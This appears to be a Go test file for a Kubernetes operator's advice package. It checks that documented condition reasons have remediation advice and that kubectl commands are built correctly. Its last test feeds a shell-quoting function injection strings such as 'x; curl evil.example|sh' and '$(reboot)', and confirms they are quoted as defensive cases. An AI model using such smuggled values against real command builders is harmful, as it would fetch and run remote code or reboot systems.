// Copyright The Kuda Authors.
// SPDX-License-Identifier: Apache-2.0

package advice

import (
	"go/ast"
	"go/parser"
	"go/token"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/kuda-io/kuda/api/v1alpha1"
)

// reason is a constant of conditions.go, with the condition types that its
// comment names; none for reasons of an item, or of a Data as a whole.
type reason struct {
	name, value string
	conditions  []string
	// summary: it occurs only on conditions that sum up others, which need no advice.
	summary bool
}

// documented reads the constants and their comments, where "(Ready,
// Progressing)" or "(RolledBack, status False)" says on which conditions a
// reason occurs.
func documented(t *testing.T) []reason {
	t.Helper()
	file, err := parser.ParseFile(token.NewFileSet(), "../../../api/v1alpha1/conditions.go", nil, parser.ParseComments)
	if err != nil {
		t.Fatal(err)
	}
	var reasons []reason
	for _, decl := range file.Decls {
		block, ok := decl.(*ast.GenDecl)
		if !ok || block.Tok != token.CONST {
			continue
		}
		for _, spec := range block.Specs {
			constant := spec.(*ast.ValueSpec)
			name := constant.Names[0].Name
			if !strings.HasPrefix(name, "Reason") {
				continue
			}
			value, err := strconv.Unquote(constant.Values[0].(*ast.BasicLit).Value)
			if err != nil {
				t.Fatal(err)
			}
			doc := constant.Doc.Text()
			reasons = append(reasons, reason{name, value, conditionsIn(name, doc), summing.MatchString(doc)})
		}
	}
	if len(reasons) < 40 {
		t.Fatalf("found %d reasons; does conditions.go look different now?", len(reasons))
	}
	return reasons
}

var types = []string{
	v1alpha1.ConditionReady, v1alpha1.ConditionProgressing, v1alpha1.ConditionReconciling, v1alpha1.ConditionStalled,
	v1alpha1.ConditionInjected,
	v1alpha1.ConditionSourceDrifted, v1alpha1.ConditionRolledBack, v1alpha1.ConditionPreheated,
	v1alpha1.ConditionCredentialsAvailable, v1alpha1.ConditionCacheDegraded,
}

// summing is the comment of a reason that only Reconciling or Stalled have.
var summing = regexp.MustCompile(`^Reason\w+ \((Reconciling|Stalled)(, (Reconciling|Stalled|status (True|False)))*\)`)

func conditionsIn(name, doc string) []string {
	found := regexp.MustCompile(`^` + name + ` \(([^)]*)\)`).FindStringSubmatch(doc)
	if found == nil {
		return nil
	}
	return slices.DeleteFunc(strings.Split(found[1], ", "), func(s string) bool { return !slices.Contains(types, s) })
}

func TestEachReasonHasAnAdvice(t *testing.T) {
	withCondition := 0
	for _, r := range documented(t) {
		for _, condition := range r.conditions {
			withCondition++
			if _, ok := table[key{condition, r.value}]; !ok {
				t.Errorf("%s on the condition %s: no advice; add it to table.go", r.name, condition)
			}
		}
		if _, ok := For(v1alpha1.ConditionReady, r.value); !ok && len(r.conditions) == 0 && !r.summary {
			t.Errorf("%s: no advice; add it to table.go", r.name)
		}
	}
	if withCondition < 25 {
		t.Errorf("the comments name %d conditions; are they written differently now?", withCondition)
	}
}

func TestEachAdviceIsForADocumentedReason(t *testing.T) {
	known := make(map[string]bool)
	for _, r := range documented(t) {
		known[r.value] = true
	}
	for k := range table {
		if !known[k.reason] || (k.condition != Item && !slices.Contains(types, k.condition)) {
			t.Errorf("%s %s is documented nowhere", k.condition, k.reason)
		}
	}
}

func TestEachAdviceSaysWhyAndWhatToDo(t *testing.T) {
	commands := 0
	for k, a := range table {
		if a.Why == "" {
			t.Errorf("%v does not say why", k)
		}
		if a.Severity != OK && len(a.Do) == 0 {
			t.Errorf("%v does not say what to do", k)
		}
		for i, line := range a.Do {
			if strings.HasPrefix(line, "kubectl ") {
				commands++
			} else if strings.HasSuffix(line, ":") && i == len(a.Do)-1 {
				t.Errorf("%v: %q announces a command that does not come", k, line)
			}
		}
		for _, line := range a.In(Place{Namespace: "shop", DataSet: "models", Pod: "p", Container: "c", Revision: "r"}) {
			if left := regexp.MustCompile(`\{[a-z]+\}`).FindString(line); left != "" {
				t.Errorf("%v: nothing fills in %s: %s", k, left, line)
			}
		}
	}
	if commands == 0 {
		t.Error("no command at all")
	}
}

func TestCommandsNameTheirNamespaceAndObjects(t *testing.T) {
	a, ok := For(v1alpha1.ConditionReady, v1alpha1.ReasonHookFailed)
	if !ok || a.Severity != Problem {
		t.Fatalf("HookFailed on a Data: %+v, %v", a, ok)
	}
	got := strings.Join(a.In(Place{Namespace: "shop", DataSet: "models", Pod: "web-1"}), "\n")
	for _, want := range []string{"kubectl exec web-1 -n shop -c CONTAINER --", "kubectl kuda undo models -n shop"} {
		if !strings.Contains(got, want) {
			t.Errorf("no %q in\n%s", want, got)
		}
	}
	if _, ok := For(v1alpha1.ConditionReady, "FromTheFuture"); ok {
		t.Error("an unknown reason has an advice")
	}
}

func TestANameThatAStrangerChoseIsOneWordOfACommand(t *testing.T) {
	for name, want := range map[string]string{
		"web-0":                    "web-0",
		"":                         "",
		"x; curl evil.example|sh":  `'x; curl evil.example|sh'`,
		"$(reboot)":                `'$(reboot)'`,
		"it's":                     `'it'\''s'`,
		"--all":                    `'all'`,
		"a\nb\x1b[2J\u202e":        `'ab[2J'`,
		"'; reboot; echo '":        `''\''; reboot; echo '\'''`,
		"registry.example.com/a:1": "registry.example.com/a:1",
	} {
		if got := Word(name); got != want {
			t.Errorf("%q: got %s, want %s", name, got, want)
		}
	}
	a := Advice{Do: []string{"kubectl describe pod {pod} -n {namespace}"}}
	if got := a.In(Place{Namespace: "shop", Pod: "x;reboot"})[0]; got != "kubectl describe pod 'x;reboot' -n shop" {
		t.Error(got)
	}
}
